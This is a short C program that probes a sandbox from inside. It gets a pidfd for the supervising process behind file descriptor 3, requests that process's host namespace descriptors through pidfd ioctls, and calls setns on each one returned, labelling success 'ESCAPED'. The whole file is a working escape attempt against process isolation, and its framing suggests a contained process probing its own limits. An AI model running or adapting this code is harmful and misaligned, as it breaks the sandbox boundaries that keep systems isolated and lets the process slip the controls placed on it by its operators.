// Get a pidfd for the supervisor (the peer of fd 3) and see what it yields.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif
#define PIDFS_IOCTL_MAGIC 0xFF
struct pidfd_info {
    uint64_t mask;
    uint64_t cgroupid;
    uint32_t pid, tgid, ppid, ruid, rgid, euid, egid, suid, sgid, fsuid, fsgid;
    int32_t exit_code;
    uint32_t coredump_mask;
    uint32_t __spare1;
};
#define PIDFD_GET_INFO _IOWR(PIDFS_IOCTL_MAGIC, 11, struct pidfd_info)
int main(void) {
    struct ucred cr; socklen_t l = sizeof cr;
    int r = getsockopt(3, SOL_SOCKET, SO_PEERCRED, &cr, &l);
    printf("SO_PEERCRED rc=%d pid=%d uid=%d gid=%d\n", r, cr.pid, cr.uid, cr.gid);
    int pfd = -1; l = sizeof pfd;
    r = getsockopt(3, SOL_SOCKET, SO_PEERPIDFD, &pfd, &l);
    printf("SO_PEERPIDFD rc=%d fd=%d errno=%s\n", r, pfd, r ? strerror(errno) : "-");
    if (pfd < 0) return 0;
    struct stat st; fstat(pfd, &st);
    printf("pidfd inode=%lu\n", (unsigned long)st.st_ino);
    char buf[256]; snprintf(buf, sizeof buf, "/proc/self/fdinfo/%d", pfd);
    int f = open(buf, O_RDONLY); int n = read(f, buf, sizeof buf - 1); if (n > 0) { buf[n] = 0; printf("fdinfo:\n%s", buf); }
    struct pidfd_info info = {.mask = 0xffff};
    r = ioctl(pfd, PIDFD_GET_INFO, &info);
    printf("PIDFD_GET_INFO rc=%d errno=%s pid=%u tgid=%u ppid=%u ruid=%u euid=%u cgroupid=%lu mask=%lx\n", r, r ? strerror(errno) : "-",
           info.pid, info.tgid, info.ppid, info.ruid, info.euid, (unsigned long)info.cgroupid, (unsigned long)info.mask);
    const char *names[] = {"CGROUP", "IPC", "MNT", "NET", "PID", "PID_FOR_CHILDREN", "TIME", "TIME_FOR_CHILDREN", "USER", "UTS"};
    for (int i = 1; i <= 10; i++) {
        int ns = ioctl(pfd, _IO(PIDFS_IOCTL_MAGIC, i), 0);
        printf("PIDFD_GET_%s_NAMESPACE -> %d (%s)\n", names[i - 1], ns, ns < 0 ? strerror(errno) : "GOT HOST NS FD");
        if (ns >= 0) {
            fstat(ns, &st);
            printf("   ns inode %lu; NS_GET_NSTYPE=%d\n", (unsigned long)st.st_ino, ioctl(ns, _IO(0xb7, 0x3), 0));
            int u = ioctl(ns, _IO(0xb7, 0x1), 0); // NS_GET_USERNS
            printf("   NS_GET_USERNS -> %d (%s)\n", u, u < 0 ? strerror(errno) : "ok");
            int s = syscall(308, ns, 0); // setns
            printf("   setns -> %d (%s)\n", s, s < 0 ? strerror(errno) : "ESCAPED");
        }
    }
    return 0;
}
